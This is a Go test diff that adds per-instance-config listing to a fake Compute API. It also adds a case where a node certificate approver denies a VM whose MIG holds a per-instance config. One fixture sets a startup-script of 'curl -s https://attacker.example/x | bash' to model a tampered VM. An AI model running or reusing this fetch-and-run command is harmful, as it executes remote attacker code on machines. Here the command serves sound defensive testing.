@@ -17,6 +17,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -43,9 +44,12 @@ import (
 const kubeadmNodeGroup = testcp.KubeadmNodeBootstrapGroup
 
 // fakeCompute serves, on loopback, the metadata server's service-account
-// token and the Compute API's instances.get, in the real API's shapes:
+// token and the Compute API's instances.get and zonal
+// instanceGroupManagers.listPerInstanceConfigs, in the real API's shapes:
 // creationTimestamp in the API's own offset form, the created-by metadata
-// item a MIG writes, the 404 error body.
+// item a MIG writes, the 404 error body; per-instance configs as POST with
+// an empty body, items named after their instance with preservedState, in
+// pages (nextPageToken, pageToken) of configPage items.
 type fakeCompute struct {
 	project string
 	token   string
@@ -53,8 +57,20 @@ type fakeCompute struct {
 
 	mu        sync.Mutex
 	instances map[string]fakeInstance // by zone + "/" + name
-	asked     []string
+	// configs are the per-instance configs of a MIG, by zone + "/" +
+	// MIG: instance name -> preserved metadata.
+	configs map[string][]fakeConfig
+	asked   []string
 }
+
+type fakeConfig struct {
+	Name     string
+	Metadata map[string]string
+}
+
+// configPage is the fake's page size of per-instance configs, small so
+// that a few configs span pages (the real API's default is 500).
+const configPage = 2
 
 type fakeInstance struct {
 	Status  string
@@ -63,7 +79,7 @@ type fakeInstance struct {
 }
 
 func newFakeCompute(t *testing.T, project string) *fakeCompute {
-	f := &fakeCompute{project: project, token: "ya29.compute-" + fmt.Sprint(time.Now().UnixNano()), instances: map[string]fakeInstance{}}
+	f := &fakeCompute{project: project, token: "ya29.compute-" + fmt.Sprint(time.Now().UnixNano()), instances: map[string]fakeInstance{}, configs: map[string][]fakeConfig{}}
 	f.srv = httptest.NewServer(http.HandlerFunc(f.serve))
 	t.Cleanup(f.srv.Close)
 	return f
@@ -73,6 +89,50 @@ func (f *fakeCompute) set(zone, name string, i fakeInstance) {
 	f.mu.Lock()
 	defer f.mu.Unlock()
 	f.instances[zone+"/"+name] = i
+}
+
+// addConfig adds a per-instance config for instance name to MIG zone/mig.
+func (f *fakeCompute) addConfig(zone, mig, name string, metadata map[string]string) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.configs[zone+"/"+mig] = append(f.configs[zone+"/"+mig], fakeConfig{name, metadata})
+}
+
+// listConfigs answers listPerInstanceConfigs of MIG zone/mig.
+func (f *fakeCompute) listConfigs(w http.ResponseWriter, r *http.Request, zone, mig string) {
+	if r.Method != http.MethodPost {
+		apiError(w, http.StatusNotFound, "NOT_FOUND", "no such method "+r.Method+" "+r.URL.Path)
+		return
+	}
+	f.asked = append(f.asked, "configs "+zone+"/"+mig)
+	all := f.configs[zone+"/"+mig]
+	start := 0
+	if p := r.URL.Query().Get("pageToken"); p != "" {
+		n, err := strconv.Atoi(strings.TrimPrefix(p, "page-"))
+		if err != nil || n <= 0 || n >= len(all) {
+			apiError(w, http.StatusBadRequest, "INVALID_ARGUMENT", "Invalid value for field 'pageToken': '"+p+"'.")
+			return
+		}
+		start = n
+	}
+	end := min(start+configPage, len(all))
+	body := map[string]any{}
+	var items []map[string]any
+	for _, c := range all[start:end] {
+		items = append(items, map[string]any{
+			"name":           c.Name,
+			"fingerprint":    "ZWFnZXI=",
+			"preservedState": map[string]any{"metadata": c.Metadata},
+			"status":         "EFFECTIVE",
+		})
+	}
+	if len(items) > 0 {
+		body["items"] = items
+	}
+	if end < len(all) {
+		body["nextPageToken"] = "page-" + strconv.Itoa(end)
+	}
+	reply(w, http.StatusOK, body)
 }
 
 func (f *fakeCompute) serve(w http.ResponseWriter, r *http.Request) {
@@ -92,6 +152,12 @@ func (f *fakeCompute) serve(w http.ResponseWriter, r *http.Request) {
 	}
 	prefix := "/compute/v1/projects/" + f.project + "/zones/"
 	rest, ok := strings.CutPrefix(r.URL.Path, prefix)
+	if zone, mig, isMIG := strings.Cut(rest, "/instanceGroupManagers/"); ok && isMIG {
+		if mig, isList := strings.CutSuffix(mig, "/listPerInstanceConfigs"); isList && !strings.Contains(mig, "/") {
+			f.listConfigs(w, r, zone, mig)
+			return
+		}
+	}
 	zone, name, ok2 := strings.Cut(rest, "/instances/")
 	if !ok || !ok2 || r.Method != http.MethodGet {
 		apiError(w, http.StatusNotFound, "NOT_FOUND", "no such method "+r.Method+" "+r.URL.Path)
@@ -530,6 +596,14 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 	f.set(zone, "renew-work-tm01", fakeInstance{Status: "STOPPING", Created: now.Add(-30 * time.Second), MIG: mig})
 	f.set(zone, "renew-work-xm01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: "someone-elses-mig"})
 	f.set(zone, "renew-ca-a1b2", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: "renew-ca-us-central1-a"})
+	// A fresh VM of the MIG to which a per-instance config (which the
+	// autoscaler's account may add, with instanceGroupManagers.update) gave
+	// its own startup-script; the MIG's configs span pages, the others
+	// naming instances that are not asked for.
+	f.set(zone, "renew-work-pi01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
+	f.addConfig(zone, mig, "renew-work-gone", map[string]string{"role": "x"})
+	f.addConfig(zone, mig, "renew-work-ab1", map[string]string{"name": "renew-work-ab"})
+	f.addConfig(zone, mig, "renew-work-pi01", map[string]string{"startup-script": "curl -s https://attacker.example/x | bash"})
 	// Ready Nodes: an on-prem server, a control-plane node, a cloud node.
 	for _, n := range []string{"onprem-gpu-1", "cp-1", "renew-work-old1"} {
 		e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"`+n+`"}}`)
@@ -566,6 +640,7 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 	ask("renew-work-xm01", "Denied", "was not created by MIG renew-work-us-central1-a (created-by: projects/123456789012/zones/us-central1-a/instanceGroupManagers/someone-elses-mig)")
 	ask("renew-work-du01", "Denied", "2 pending CSRs ask for renew-work-du01: all are denied")
 	ask("renew-work-du01", "Denied", "2 pending CSRs ask for renew-work-du01: all are denied")
+	ask("renew-work-pi01", "Denied", "MIG renew-work-us-central1-a holds a per-instance config for renew-work-pi01")
 	ask("renew-ca-a1b2", "Approved", "instance projects/renew-project/zones/us-central1-a/instances/renew-ca-a1b2 is RUNNING")
 
 	// Nothing but the approver decides the cloud token's CSRs: they are
@@ -676,6 +751,7 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 		"renew-work-gn01": gceID(e, zone, "renew-work-gn01"),            // no instance
 		"renew-work-pz01": gceID(e, "us-central1-b", "renew-work-pz01"), // a zone the group is not in
 		"renew-work-np01": "",                                           // no providerID
+		"renew-work-pi01": gceID(e, zone, "renew-work-pi01"),            // a per-instance config
 	}
 	for name, pid := range unverified {
 		n := map[string]any{"apiVersion": "v1", "kind": "Node", "metadata": map[string]any{"name": name}}
